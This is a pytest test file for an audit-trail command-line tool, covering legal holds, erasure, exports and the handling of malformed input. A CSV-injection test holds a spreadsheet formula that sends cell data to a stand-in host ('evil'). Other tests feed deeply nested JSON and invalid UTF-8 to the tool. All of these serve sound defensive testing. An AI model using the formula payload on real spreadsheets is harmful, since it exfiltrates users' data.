"""The `guardrail audit` commands as a compliance officer uses them, in real subprocesses:
legal holds against erase and sweep, actors, exports (permissions, times, filters), and
every bad input with its message and exit code (never a traceback)."""

from __future__ import annotations

import contextlib
import csv
import datetime
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from pathlib import Path

import pytest

from audit.store import NewRecord
from sidecar.auditing import open_store
from tests.conftest import REPO, make_settings

FUTURE = time.time() + 86400


def cli(*args: str) -> tuple[int, str, str]:
    done = subprocess.run([sys.executable, "-m", "sidecar", *args], cwd=REPO,
                          capture_output=True, text=True, timeout=120, check=False,
                          env={**os.environ, "USER": "compliance-bot"})
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, done.stdout, done.stderr


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("cli")
    store = open_store(make_settings(tmp))
    store.append([NewRecord(tenant="acme", decision=decision, subject_id="bob-42",
                            payload=b'{"messages": []}', retain_until=FUTURE)
                  for decision in ("ALLOW", "MODIFY", "BLOCK")])
    store.append([NewRecord(tenant="acme", decision="MODIFY", subject_id="ann",
                            payload=b"{}", retain_until=time.time() - 60)])
    store.close()
    return tmp / "data"


@pytest.fixture
def data(base: Path, tmp_path: Path) -> str:
    shutil.copytree(base, tmp_path / "data")
    return str(tmp_path / "data")


def events(data: str, kind: str) -> list[dict[str, str]]:
    store = open_store(make_settings(Path(data).parent))
    try:
        return [{**json.loads(r["tags"]), "decision": r["decision"]}
                for r in store.records("kind = ?", (kind,))]
    finally:
        store.close()


def test_a_legal_hold_stops_erasure_until_overridden_with_a_reason(data: str) -> None:
    code, out, err = cli("audit", "hold", "add", "--data-dir", data, "--subject", "bob-42",
                         "--reason", "litigation")
    assert code == 0 and out.strip() == "hold 1 added"
    assert "actor: compliance-bot (the OS user" in err  # the default actor is stated
    code, out, err = cli("audit", "erase", "--data-dir", data, "--subject", "bob-42")
    assert code == 1 and "hold 1" in err and "litigation" in err and "refused" in err
    assert not events(data, "erasure")  # nothing happened
    code, _, err = cli("audit", "erase", "--data-dir", data, "--subject", "bob-42",
                       "--override-hold")
    assert code == 2 and "--override-hold needs --reason" in err
    code, out, _ = cli("audit", "erase", "--data-dir", data, "--subject", "bob-42",
                       "--override-hold", "--reason", "court order 12", "--actor", "dpo")
    receipt = json.loads(out)
    assert code == 0 and receipt["overrode_holds"] == [1] and receipt["actor"] == "dpo"
    [erasure] = events(data, "erasure")
    assert (erasure["actor"], erasure["reason"], erasure["overrode_holds"]) == \
        ("dpo", "court order 12", "1")
    [added] = events(data, "hold")
    assert (added["decision"], added["actor"], added["reason"]) == \
        ("ADDED", "compliance-bot", "litigation")


def test_a_tenant_hold_covers_the_subjects_of_that_tenant(data: str) -> None:
    assert cli("audit", "hold", "add", "--tenant", "acme", "--reason", "audit 2026",
               "--data-dir", data)[0] == 0
    code, _, err = cli("audit", "erase", "--subject", "ann", "--data-dir", data)
    assert code == 1 and "hold 1 (tenant acme" in err


def test_a_hold_keeps_expired_records_from_the_sweep_and_release_is_recorded(
        data: str) -> None:
    assert cli("audit", "hold", "add", "--subject", "ann", "--reason", "case 9",
               "--data-dir", data)[0] == 0
    code, out, _ = cli("audit", "sweep", "--data-dir", data, "--actor", "ops")
    assert code == 0 and out.startswith("removed 0 expired records; kept 1 under legal hold")
    code, out, _ = cli("audit", "hold", "release", "--data-dir", data, "1",
                       "--reason", "case closed")  # options before the id work too
    assert code == 0 and out.strip() == "hold 1 released"
    code, out, _ = cli("audit", "sweep", "--data-dir", data, "--actor", "ops")
    assert code == 0 and out.startswith("removed 1 expired records")
    released = [e for e in events(data, "hold") if e["decision"] == "RELEASED"]
    assert released == [{"hold": "1", "actor": "compliance-bot", "reason": "case closed",
                         "decision": "RELEASED"}]
    assert events(data, "retention")[0]["actor"] == "ops"
    code, out, _ = cli("audit", "hold", "list", "--data-dir", data)
    assert code == 0 and "released" in out and "case 9" in out


def test_exports_are_private_files_with_rfc3339_utc_times(data: str, tmp_path: Path) -> None:
    jsonl, table = tmp_path / "out.jsonl", tmp_path / "out.csv"
    table.write_text("old")
    table.chmod(0o644)  # an existing, readable file is made private before it is written
    old_umask = os.umask(0)
    try:
        assert cli("audit", "export", "--data-dir", data, "--include-payload",
                   "-o", str(jsonl))[0] == 0
        assert cli("audit", "export", "--data-dir", data, "--format", "csv",
                   "-o", str(table))[0] == 0
    finally:
        os.umask(old_umask)
    for path in (jsonl, table, Path(f"{jsonl}.manifest.json"), Path(f"{table}.manifest.json")):
        assert path.stat().st_mode & 0o777 == 0o600, path
    rows = [json.loads(line) for line in jsonl.read_text().splitlines()]
    rows += list(csv.DictReader(io.StringIO(table.read_text())))
    for row in rows:
        for column in ("time", "retain_until"):
            value = str(row[column])
            assert value.endswith("Z"), value
            parsed = datetime.datetime.fromisoformat(value)
            assert parsed.utcoffset() == datetime.timedelta(0)


def test_filters_are_strict_and_case_insensitive(data: str) -> None:
    code, out, _ = cli("audit", "export", "--data-dir", data, "--decision", "modify")
    assert code == 0 and [json.loads(line)["decision"] for line in out.splitlines()] == \
        ["MODIFY", "MODIFY"]
    now = datetime.datetime.now(datetime.UTC)
    since = (now - datetime.timedelta(hours=1)).isoformat().replace("+00:00", "Z")
    later = (now + datetime.timedelta(hours=1)).astimezone(
        datetime.timezone(datetime.timedelta(hours=2))).isoformat()
    code, out, _ = cli("audit", "export", "--data-dir", data, "--since", since,
                       "--until", later)
    assert code == 0 and len(out.splitlines()) == 4


BAD_INPUT = [
    (("export", "--since", "yesterday"), 2, "'yesterday' is not an RFC 3339 time"),
    (("export", "--since", "2026-01-01T00:00:00"), 2, "has no time zone: add Z"),
    (("export", "--until", "2026-01-01"), 2, "has no time zone"),
    (("export", "--decision", "maybe"), 2, "'maybe' is not a decision"),
    (("export", "--since", "2026-02-01T00:00:00Z", "--until", "2026-01-01T00:00:00Z"), 2,
     "--since must be before --until"),
    (("export", "--format", "xml"), 2, "invalid choice: 'xml'"),
    (("verify", "--public-key", "not-hex"), 2, "64 hex digits"),
    (("verify", "--public-key-file", "/nonexistent/key"), 2, "cannot read /nonexistent/key"),
    (("hold", "add", "--subject", "x"), 2, "the following arguments are required: --reason"),
    (("hold", "add", "--subject", "x", "--tenant", "y", "--reason", "r"), 2,
     "exactly one of --subject or --tenant"),
    (("hold", "add", "--subject", "x", "--reason", " "), 2, "--reason must not be empty"),
    (("hold", "release", "99", "--reason", "done"), 1, "no active hold 99"),
    (("hold", "release", "1"), 2, "the following arguments are required: --reason"),
    (("hold", "release", "one"), 2, "invalid int value: 'one'"),
    (("reset-anchor",), 2, "the following arguments are required: --reason"),
    (("erase", "--subject", "x", "--override-hold"), 2, "needs --reason"),
    # Outside trial: an id beyond SQLite's int64 was an OverflowError traceback.
    (("hold", "release", "99999999999999999999999", "--reason", "r"), 2,
     "is not a hold id"),
    (("hold", "release", "-99999999999999999999999", "--reason", "r"), 2,
     "is not a hold id"),
]


@pytest.fixture(scope="module", autouse=True)
def bad_input_runs(base: Path, tmp_path_factory: pytest.TempPathFactory,
                   request: pytest.FixtureRequest
                   ) -> Iterator[dict[tuple[str, ...], Future[tuple[int, str, str]]]]:
    """Every row of BAD_INPUT as its own `guardrail audit` process on its own copy of the
    trail, started when the module starts, in one background lane: each spends most of
    its second importing on one core while the module's other tests (one subprocess at
    a time) leave the second core idle, and none depends on another. Each test reads
    its own row's outcome."""
    def run(args: tuple[str, ...], copy: Path) -> tuple[int, str, str]:
        shutil.copytree(base, copy)
        return cli("audit", *args, "--data-dir", str(copy))

    work = tmp_path_factory.mktemp("bad-input")
    with ThreadPoolExecutor(max_workers=1) as pool:
        selected = {tuple(item.callspec.params.get("args", ())) for item in
                    request.session.items
                    if item.module is request.module and hasattr(item, "callspec")}
        futures = {args: pool.submit(run, args, work / str(n))
                   for n, (args, _, _) in enumerate(BAD_INPUT) if args in selected}
        yield futures
        for future in futures.values():  # a run stopped early (-x): start no more
            future.cancel()


@pytest.mark.parametrize(("args", "code", "message"), BAD_INPUT)
def test_bad_input_gets_a_message_and_an_exit_code(
        bad_input_runs: dict[tuple[str, ...], Future[tuple[int, str, str]]],
        args: tuple[str, ...], code: int, message: str) -> None:
    got, _, err = bad_input_runs[args].result(timeout=300)
    assert (got, message in err) == (code, True), err


def test_commands_on_a_directory_without_a_trail(tmp_path: Path) -> None:
    commands = (("public-key",), ("verify",), ("export",), ("hold", "list"))
    with ThreadPoolExecutor(max_workers=2) as pool:  # independent processes
        outcomes = list(pool.map(lambda n: cli("audit", *commands[n], "--data-dir",
                                               str(tmp_path / f"none{n}")),
                                 range(len(commands))))
    for args, (code, _, err) in zip(commands, outcomes, strict=True):
        assert code == 2 and "nothing was served there" in err, (args, err)
    code, _, err = cli("audit", "verify-export", str(tmp_path / "missing.jsonl"))
    assert code == 2 and "cannot read manifest" in err


STRAY = os.fsdecode(b"req-7 \xff")  # a byte that is not UTF-8, as argv hands it to Python


def test_a_text_argument_that_is_not_utf8_is_refused_before_anything_is_recorded(
        data: str) -> None:
    """Outside trial 10: `erase --reason` with a stray byte was chained into the trail
    for good (rc 0), and every JSON Lines export holding the event then died."""
    for args in (["audit", "erase", "--data-dir", data, "--subject", "bob-42",
                  "--reason", STRAY],
                 ["audit", "erase", "--data-dir", data, "--subject", STRAY],
                 ["audit", "hold", "add", "--data-dir", data, "--tenant", "acme",
                  "--reason", "case", "--actor", STRAY]):
        code, _, err = cli(*args)
        option = args[args.index(STRAY) - 1]
        assert code == 2 and f"error: {option}: not valid UTF-8" in err, err
    assert not events(data, "erasure") and not events(data, "hold")


def test_an_export_of_a_trail_holding_such_text_is_whole_and_verifies(
        data: str, tmp_path: Path) -> None:
    """A trail written before that refusal keeps the event: the export escapes it
    instead of dying half written, and verify-export accepts the file."""
    store = open_store(make_settings(Path(data).parent))
    try:
        store.erase("ann", reason=STRAY)
    finally:
        store.close()
    out = tmp_path / "all.jsonl"
    code, _, err = cli("audit", "export", "--data-dir", data, "-o", str(out))
    assert code == 0, err
    lines = out.read_bytes().decode("utf-8").splitlines()  # valid UTF-8 throughout
    assert any(json.loads(line).get("kind") == "erasure" for line in lines)
    key = cli("audit", "public-key", "--data-dir", data)[1].strip()
    code, out_text, err = cli("audit", "verify-export", str(out), "--public-key", key)
    assert code == 0, out_text + err


FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(data: str, tmp_path: Path) -> None:
    """Outside trial: client-chosen tenant and app names went into CSV cells as they
    were, and a spreadsheet ran `=HYPERLINK(...)` as a formula. CSV cells starting with
    = + - @ TAB or CR are prefixed with a single quote (OWASP); JSON Lines stay exact."""
    store = open_store(make_settings(Path(data).parent))
    try:
        store.append([NewRecord(tenant=value, app=value, decision="ALLOW",
                                retain_until=FUTURE) for value in FORMULAS])
    finally:
        store.close()
    table, lines = tmp_path / "out.csv", tmp_path / "out.jsonl"
    assert cli("audit", "export", "--data-dir", data, "--format", "csv", "-o", str(table),
               "--decision", "allow")[0] == 0
    assert cli("audit", "export", "--data-dir", data, "-o", str(lines),
               "--decision", "allow")[0] == 0
    cells = [row for row in csv.DictReader(io.StringIO(table.read_bytes().decode(), newline=""))
             if row["tenant"] != "acme"]
    assert [(row["tenant"], row["app"]) for row in cells] == [("'" + v, "'" + v)
                                                              for v in FORMULAS]
    for row in csv.DictReader(io.StringIO(table.read_bytes().decode(), newline="")):
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r"))
                       for v in row.values()), row
    exact = [json.loads(line) for line in lines.read_text().splitlines()]
    assert [r["tenant"] for r in exact if r["tenant"] != "acme"] == FORMULAS
    key = cli("audit", "public-key", "--data-dir", data)[1].strip()
    assert cli("audit", "verify-export", str(table), "--public-key", key)[0] == 0


DEEP = "[" * 100000


def test_deeply_nested_json_is_a_malformed_file_not_a_traceback(
        data: str, tmp_path: Path) -> None:
    """Outside trial: `'[' * 100000` in the head anchor or an export manifest was a
    RecursionError traceback (`cli` asserts there is none): the same message as short
    garbage now, from every command that reads them."""
    anchor = Path(data) / "keys" / "audit-anchor.json"
    seen = {}
    for name, text in (("garbage", "x"), ("deep", DEEP)):
        anchor.write_text(text)
        seen[name] = cli("audit", "verify", "--data-dir", data)
    assert seen["deep"] == seen["garbage"], seen
    assert seen["deep"][0] == 1 and "is malformed" in seen["deep"][2], seen
    for name, text in (("garbage", "x"), ("deep", DEEP)):  # each adds a hold: stderr only
        anchor.write_text(text)
        code, _, err = cli("audit", "hold", "add", "--data-dir", data, "--tenant", "t",
                           "--reason", "case")
        seen[name] = (code, "", re.sub(r'"time": "[^"]*"', "", err))
    assert seen["deep"] == seen["garbage"], seen
    out = tmp_path / "out.jsonl"
    anchor.unlink()
    assert cli("audit", "export", "--data-dir", data, "-o", str(out))[0] == 0
    results = {}
    for name, text in (("garbage", "x"), ("deep", DEEP)):
        manifest = tmp_path / f"{name}.json"
        manifest.write_text(text)
        code, _, err = cli("audit", "verify-export", str(out), "--manifest", str(manifest))
        results[name] = (code, err.replace(str(manifest), "MANIFEST"))
    assert results["deep"] == results["garbage"] == (2, results["garbage"][1]), results
    assert "is not JSON" in results["deep"][1]


def test_an_export_that_cannot_be_written_records_nothing(data: str, tmp_path: Path) -> None:
    """Outside trial: `export -o /nonexistent/dir/x` (or -o DIRECTORY) exited 2 but had
    already signed a checkpoint and moved the head anchor."""
    anchor = Path(data) / "keys" / "audit-anchor.json"
    before = anchor.read_bytes(), _checkpoints(data)
    for target in (tmp_path / "nonexistent" / "dir" / "x", tmp_path):
        code, _, err = cli("audit", "export", "--data-dir", data, "-o", str(target))
        assert code == 2 and f"cannot write {target}" in err, err
    assert (anchor.read_bytes(), _checkpoints(data)) == before


def _checkpoints(data: str) -> int:
    with contextlib.closing(sqlite3.connect(f"file:{data}/audit/audit.db?mode=ro",
                                            uri=True)) as conn:
        return int(conn.execute("SELECT COUNT(*) FROM checkpoints").fetchone()[0])


def test_verify_export_shows_what_the_export_covers(data: str, tmp_path: Path) -> None:
    """Outside trial: `verify-export FILE` said `ok` without saying which filters the
    signed manifest names, so a partial export passed for a whole one, and a renamed
    file was not noticed."""
    out = tmp_path / "acme.csv"
    code, _, err = cli("audit", "export", "--data-dir", data, "--tenant", "acme",
                       "--subject", "bob-42", "--since", "2026-01-01T00:00:00Z",
                       "--format", "csv", "-o", str(out))
    assert code == 0, err
    key = cli("audit", "public-key", "--data-dir", data)[1].strip()
    code, text, err = cli("audit", "verify-export", str(out), "--public-key", key)
    assert code == 0, err
    assert "tenant=acme" in text and "subject_ref=" in text, text
    assert "since=2026-01-01T00:00:00.000000Z" in text and "format csv" in text, text
    assert "file acme.csv" in text and "WARNING" not in err, (text, err)
    renamed = tmp_path / "everything.csv"
    shutil.copy(out, renamed)
    code, text, err = cli("audit", "verify-export", str(renamed), "--manifest",
                          f"{out}.manifest.json", "--public-key", key)
    assert code == 0 and "WARNING: the manifest names file 'acme.csv', not " \
        "'everything.csv'" in err, err
